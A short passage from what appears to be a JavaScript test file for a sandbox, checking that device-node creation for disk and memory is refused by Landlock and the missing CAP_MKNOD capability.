      return expectErrno({ keys: ['disk', 'mem'], refused: [E.EACCES, E.EPERM], by: 'Landlock (no make-device right) and missing CAP_MKNOD' })(run);
    },
  },
];
